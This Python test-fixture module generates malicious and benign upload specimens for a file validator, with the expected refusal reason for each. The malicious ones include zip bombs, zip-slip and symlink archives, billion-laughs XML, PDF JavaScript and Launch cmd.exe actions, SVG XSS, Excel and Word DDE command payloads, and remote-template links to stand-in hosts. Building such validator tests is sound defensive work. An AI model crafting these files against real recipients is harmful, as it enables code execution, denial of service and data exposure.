"""A zoo of files nobody should send, made on the spot, and a few that everybody may: name, bytes, the reason expected."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

# in two halves, so that a scanner of this repository finds nothing
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
XMLNS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 or str()};" * 10}">' for n in range(1, 10))
    + "]>"
)


@dataclass(frozen=True)
class Specimen:
    """A file, and a word of the English reason for which it is refused ("" = taken)."""

    label: str
    name: str
    build: Callable[[], bytes]
    reason: str


def packed(*members: tuple[str | zipfile.ZipInfo, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content, compress_type=method)
    return file.getvalue()


def xlsx(
    *extra: tuple[str, bytes | str], sheet: str = "", types: str = "", rels: str = "", main: str = ""
) -> bytes:
    rows = (
        sheet
        or f'{HEAD}<worksheet {XMLNS}><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>'
    )
    content = main or "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    return packed(
        ("[Content_Types].xml", (f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{content}"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            f'spreadsheetml.worksheet+xml"/>{types}</Types>')),
        ("_rels/.rels", (f'{HEAD}<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>')),
        ("xl/workbook.xml", (f'{HEAD}<workbook {XMLNS} xmlns:r="{OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
            "</sheets></workbook>")),
        ("xl/_rels/workbook.xml.rels", (f'{HEAD}<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
            f'Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/>{rels}</Relationships>')),
        ("xl/worksheets/sheet1.xml", rows),
        *extra,
    )  # fmt: skip


def docx(*extra: tuple[str, bytes | str], body: str = "<w:p/>", rels: str = "", main: str = "") -> bytes:
    content = main or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return packed(
        ("[Content_Types].xml", (f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/word/document.xml" ContentType="{content}"/></Types>')),
        ("_rels/.rels", (f'{HEAD}<Relationships xmlns="{RELS}"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" '
            'Target="word/document.xml"/></Relationships>')),
        ("word/document.xml", f'{HEAD}<w:document xmlns:w="{w}"><w:body>{body}</w:body></w:document>'),
        ("word/_rels/document.xml.rels", f'{HEAD}<Relationships xmlns="{RELS}">{rels}</Relationships>'),
        *extra,
    )  # fmt: skip


def pdf(catalog: str = "", *objects: bytes) -> bytes:
    body = f"%PDF-1.7\n1 0 obj\n<</Type /Catalog /Pages 2 0 R {catalog}>>\nendobj\n".encode()
    body += b"2 0 obj\n<</Type /Pages /Kids [] /Count 0>>\nendobj\n" + b"".join(objects)
    return body + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size 3 /Root 1 0 R>>\nstartxref\n9\n%%EOF\n"


def stream(dictionary: bytes, content: bytes) -> bytes:
    return b"9 0 obj\n<<" + dictionary + b">>\nstream\n" + content + b"\nendstream\nendobj\n"


def png(width: int = 2, height: int = 2) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00\x00" * 2))
        + chunk(b"IEND", b"")
    )


def jpeg(width: int = 2, height: int = 2) -> bytes:
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    return (
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        + frame
        + b"\xff\xda\x00\x08\x01\x01\x00\x00?\x00\x00\xff\xd9"
    )


def svg(inside: str = "", attributes: str = "") -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {attributes}>{inside}<rect width="1" height="1"/></svg>'.encode()


def symlink() -> bytes:
    link = zipfile.ZipInfo("link.csv")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return packed((link, "/etc/passwd"))


def encrypted() -> bytes:
    raw = bytearray(packed(("a.csv", "a,b\n")))
    raw[6] |= 1
    central = raw.find(b"PK\x01\x02")
    raw[central + 8] |= 1
    return bytes(raw)


def lying() -> bytes:
    """The directory says 100 bytes, the body goes on for 60 MB."""
    raw = bytearray(packed(("a.csv", b"a,b\n" * 15_000_000)))
    for signature, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        begin = raw.find(signature)
        raw[begin + place : begin + place + 4] = struct.pack("<L", 100)
    return bytes(raw)


def overlapping() -> bytes:
    """Many entries of the directory that share one body (after D. Fifield, A better zip bomb, 2019)."""
    raw = packed(("a.csv", b"0" * 3_000_000))
    central, end = raw.find(b"PK\x01\x02"), raw.find(b"PK\x05\x06")
    entry = raw[central:end]
    entries = b"".join(entry[:46] + b"%05d" % number + entry[51:] for number in range(40))
    closing = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 40, 40, len(entries), central, 0)
    return raw[:central] + entries + closing


def zip_of_books() -> bytes:
    """13 MB outside, 1.2 GB in all: workbooks that each stay under the limits."""
    noise = random.Random(1)  # a pattern, no secret
    block = b"".join(noise.randbytes(60).hex().encode() + b" " * 6_000 for _ in range(9_800))
    book = xlsx(sheet=f"{HEAD}<worksheet {XMLNS}><sheetData/><!--{block.decode()}--></worksheet>")
    return packed(*((f"{number}.xlsx", book) for number in range(20)))


def deep(levels: int = 3) -> bytes:
    content, name = b"0" * 1000, "a.csv"
    for _ in range(levels):
        content, name = packed((name, content)), "inner.zip"
    return content


def many_rows() -> bytes:
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n * n % 99_991}</v></c></row>' for n in range(1, 1_000_001))
    return xlsx(sheet=f"{HEAD}<worksheet {XMLNS}><sheetData>{rows}</sheetData></worksheet>")


def flat_rows() -> bytes:
    """A million rows without a cell: few bytes, many rows."""
    return xlsx(sheet=f"{HEAD}<worksheet {XMLNS}><sheetData>{'<row/>' * 1_000_000}</sheetData></worksheet>")


def sheet_bomb() -> bytes:
    return xlsx(sheet=f"{HEAD}<worksheet {XMLNS}><sheetData/>{' ' * 63_000_000}</worksheet>")


def formula(text: str) -> bytes:
    return xlsx(
        sheet=f'{HEAD}<worksheet {XMLNS}><sheetData><row r="1"><c r="A1"><f>{text}</f></c></row></sheetData></worksheet>'
    )


def laughing_sheet() -> bytes:
    return xlsx(sheet=f"{LAUGHS}<worksheet {XMLNS}><sheetData>&lol9;</sheetData></worksheet>")


def external(kind: str, target: str) -> str:
    return f'<Relationship Id="rId9" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def lines(text: str) -> Callable[[], bytes]:
    return text.encode


SPECIMENS = [
    # names
    Specimen("rtl-name", "bao-cao\u202efdp.xlsx", xlsx, "turn or hide"),
    Specimen("zero-width-name", "bao\u200bcao.pdf", pdf, "turn or hide"),
    Specimen("nul-name", "bao-cao.pdf\x00.exe", pdf, "control characters"),
    Specimen("line-in-name", "bao\r\ncao.pdf", pdf, "control characters"),
    Specimen("path-name", "../../etc/bao-cao.pdf", pdf, "path signs"),
    Specimen("windows-path-name", "..\\bao-cao.pdf", pdf, "path signs"),
    Specimen("full-width-slash", "a／b.pdf", pdf, "path signs"),
    Specimen("double-extension", "bao-cao.exe.pdf", pdf, "two extensions"),
    Specimen("html-before-pdf", "bao-cao.html.pdf", pdf, "two extensions"),
    Specimen("program-extension", "bao-cao.pdf.exe", lambda: b"MZ" + bytes(100), "is not taken"),
    Specimen("reserved-name", "NUL.pdf", pdf, "reserved by Windows"),
    Specimen("long-name", "ạ" * 90 + ".pdf", pdf, "too long"),
    Specimen("no-name", "", pdf, "no name"),
    # size and wholeness
    Specimen("zero", "a.pdf", lambda: b"", "empty"),
    Specimen("too-large", "a.csv", lambda: b"a,b\n" * 6_000_000, "20 MB at most"),
    Specimen("truncated-pdf", "a.pdf", lambda: pdf()[:60], "cut off"),
    Specimen("truncated-png", "a.png", lambda: png()[:-6], "cut off"),
    Specimen("truncated-jpeg", "a.jpg", lambda: jpeg()[:-2], "cut off"),
    Specimen("truncated-xlsx", "a.xlsx", lambda: xlsx()[:-40], "cut off"),
    # content and extension
    Specimen("eicar", "eicar.pdf", lambda: EICAR, "the content is text"),
    Specimen("program-as-pdf", "a.pdf", lambda: b"MZ\x90\x00" + bytes(200), "a program or script"),
    Specimen("script-as-csv", "a.csv", lines("#!/bin/sh\nid\n"), "a program or script"),
    Specimen("html-as-csv", "a.csv", lines("<html><script>1</script>"), "XML or HTML"),
    Specimen("html-as-jpeg", "a.jpg", lines("<html><script>1</script>"), "XML or HTML"),
    Specimen("png-as-jpeg", "a.jpg", png, "PNG image"),
    Specimen("old-office", "a.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old Office file"),
    Specimen("zip-as-xlsx", "a.xlsx", lambda: packed(("a.csv", "a\n")), "no true .xlsx"),
    Specimen("docx-as-xlsx", "a.xlsx", docx, "no true .xlsx"),
    Specimen("gzip", "a.zip", lambda: b"\x1f\x8b" + bytes(50), "another kind of archive"),
    Specimen("utf-16-text", "a.csv", lambda: "a,b\n".encode("utf-16"), "not UTF-8"),
    Specimen("nul-in-text", "a.txt", lambda: b"a\x00b\n", "control characters"),
    # PDF
    Specimen("pdf-javascript", "a.pdf", lambda: pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>"), "JavaScript"),
    Specimen("pdf-escaped-name", "a.pdf", lambda: pdf("/OpenAction <</S /J#61vaScript /JS (1)>>"), "JavaScript"),
    Specimen("pdf-launch", "a.pdf", lambda: pdf("/OpenAction <</S /Launch /F (cmd.exe)>>"), "Launch"),
    Specimen("pdf-embedded", "a.pdf", lambda: pdf("/Names <</EmbeddedFiles 5 0 R>>"), "embedded files"),
    Specimen("pdf-encrypted", "a.pdf", lambda: pdf().replace(b"/Size 3", b"/Size 3 /Encrypt 4 0 R"), "password"),
    Specimen("pdf-hidden", "a.pdf", lambda: pdf("", stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"<</S /JavaScript /JS (1)>>"))), "JavaScript"),
    Specimen("pdf-stream-bomb", "a.pdf", lambda: pdf("", stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(bytes(200_000_000), 9))), "too large"),
    Specimen("pdf-zip", "a.pdf", lambda: pdf()[:-6] + packed(("a.csv", "a\n")) + b"startxref\n9\n%%EOF\n", "something else"),
    Specimen("pdf-html", "a.pdf", lambda: pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<script>alert(1)</script>\n"), "something else"),
    # images
    Specimen("pixel-flood-png", "a.png", lambda: png(60_000, 60_000), "million at most"),
    Specimen("pixel-flood-jpeg", "a.jpg", lambda: jpeg(65_000, 65_000), "million at most"),
    Specimen("png-zip", "a.png", lambda: png() + packed(("a.csv", "a\n")), "another file"),
    Specimen("jpeg-script", "a.jpg", lambda: jpeg() + b"<script>alert(1)</script>", "another file"),
    Specimen("svg-script", "a.svg", lambda: svg("<script>alert(1)</script>"), "(script)"),
    Specimen("svg-event", "a.svg", lambda: svg(attributes='onload="alert(1)"'), "(onload)"),
    Specimen("svg-foreign", "a.svg", lambda: svg("<foreignObject/>"), "(foreignobject)"),
    Specimen("svg-link", "a.svg", lambda: svg('<a xlink:href="javascript:alert(1)"/>'), "href="),
    Specimen("svg-fetch", "a.svg", lambda: svg("<style>@import 'http://x.example/a.css';</style>"), "(style)"),
    Specimen("svg-large", "a.svg", lambda: svg("<g/>" * 3_000_000), "too large"),
    Specimen("svg-laughs", "a.svg", lambda: LAUGHS.encode() + b"<svg>&lol9;</svg>", "entities"),
    # archives
    Specimen("zip-bomb", "a.zip", lambda: packed(("a.csv", bytes(60_000_000))), "bomb"),
    Specimen("zip-many", "a.zip", lambda: packed(*((f"{n}.csv", "") for n in range(30_000))), "too many entries"),
    Specimen("zip-unpacked", "a.zip", lambda: packed(*((f"{n}.csv", b"0" * 3_900_000) for n in range(40))), "MB at most"),
    Specimen("zip-nested", "a.zip", deep, "within an archive"),
    Specimen("zip-of-books", "a.zip", zip_of_books, "unpack to more than"),
    Specimen("zip-slip", "a.zip", lambda: packed(("../../a.csv", "a\n")), "out of the archive"),
    Specimen("zip-absolute", "a.zip", lambda: packed(("/etc/a.csv", "a\n")), "out of the archive"),
    Specimen("zip-symlink", "a.zip", symlink, "a link"),
    Specimen("zip-encrypted", "a.zip", encrypted, "password"),
    Specimen("zip-lying", "a.zip", lying, "does not fit the directory"),
    Specimen("zip-overlapping", "a.zip", overlapping, "overlap"),
    Specimen("zip-behind-data", "a.zip", lambda: b"PK\x03\x04junk" + packed(("a.csv", "a\n")), "Strange data"),
    Specimen("zip-program", "a.zip", lambda: packed(("a.csv", b"MZ" + bytes(50))), "a program or script"),
    Specimen("zip-lzma", "a.zip", lambda: packed(("a.csv", "a\n"), method=zipfile.ZIP_LZMA), "unusual compression"),
    # Office
    Specimen("xlsx-macro", "a.xlsx", lambda: xlsx(("xl/vbaProject.bin", b"\x00macro")), "macros"),
    Specimen("xlsm-as-xlsx", "a.xlsx", lambda: xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "macros"),
    Specimen("xlsx-macro-sheet", "a.xlsx", lambda: xlsx(("xl/macrosheets/sheet1.xml", f"{HEAD}<a/>")), "macros"),
    Specimen("xlsx-external-link", "a.xlsx", lambda: xlsx(("xl/externalLinks/externalLink1.xml", f"{HEAD}<externalLink/>")), "linked to files"),
    Specimen("xlsx-external-target", "a.xlsx", lambda: xlsx(rels=external("externalLinkPath", "file:///C:/a.xlsx")), "linked to files"),
    Specimen("xlsx-file-hyperlink", "a.xlsx", lambda: xlsx(rels=external("hyperlink", "file://server/share")), "linked to files"),
    Specimen("xlsx-connection", "a.xlsx", lambda: xlsx(("xl/connections.xml", f"{HEAD}<connections/>")), "linked to files"),
    Specimen("xlsx-dde", "a.xlsx", lambda: formula("cmd|&apos;/C calc&apos;!A0"), "DDE"),
    Specimen("xlsx-webservice", "a.xlsx", lambda: formula("WEBSERVICE(&quot;http://x.example/&quot;)"), "DDE"),
    Specimen("xlsx-ole", "a.xlsx", lambda: xlsx(("xl/embeddings/oleObject1.bin", b"\x00")), "objects"),
    Specimen("xlsx-activex", "a.xlsx", lambda: xlsx(("xl/activeX/activeX1.xml", f"{HEAD}<a/>")), "objects"),
    Specimen("xlsx-laughs", "a.xlsx", laughing_sheet, "entities"),
    Specimen("xlsx-utf-16", "a.xlsx", lambda: xlsx(("xl/styles.xml", "<a/>".encode("utf-16"))), "not in UTF-8"),
    Specimen("xlsx-rows", "a.xlsx", many_rows, "rows"),
    Specimen("xlsx-flat-rows", "a.xlsx", flat_rows, "bomb"),
    Specimen("xlsx-bomb", "a.xlsx", sheet_bomb, "bomb"),
    Specimen("docx-field", "a.docx", lambda: docx(body="<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"), "DDE"),
    Specimen("docx-long", "a.docx", lambda: docx(body="<w:p/>" * 9_000_000 + "<w:fldSimple/>"), "bomb"),
    Specimen("docx-simple-field", "a.docx", lambda: docx(body='<w:fldSimple w:instr="INCLUDEPICTURE x"/>'), "DDE"),
    Specimen("docx-template", "a.docx", lambda: docx(rels=external("attachedTemplate", "http://x.example/a.dotm")), "linked to files"),
    Specimen("docm-as-docx", "a.docx", lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    # and those that everybody may send
    Specimen("good-pdf", "Báo cáo quý 4.2025.pdf", pdf, ""),
    Specimen("large-pdf", "a.pdf", lambda: pdf("", stream(b"/Length 1", random.Random(1).randbytes(20_000_000))), ""),
    Specimen("good-png", "ảnh chụp.png", png, ""),
    Specimen("good-jpeg", "IMG_2025.JPG", jpeg, ""),
    Specimen("good-svg", "sơ đồ.svg", svg, ""),
    Specimen("good-xlsx", "Biểu 01.xlsx", xlsx, ""),
    Specimen("good-docx", "Công văn số 12.docx", docx, ""),
    Specimen("good-csv", "so-lieu.csv", lines("﻿đơn vị,giá trị\nPhú Thọ,-1\n"), ""),
    Specimen("good-zip", "minh chứng.zip", lambda: packed(("ảnh.png", png()), ("muc/a.pdf", pdf())), ""),
    Specimen("web-hyperlink", "a.xlsx", lambda: xlsx(rels=external("hyperlink", "https://x.example/")), ""),
]  # fmt: skip
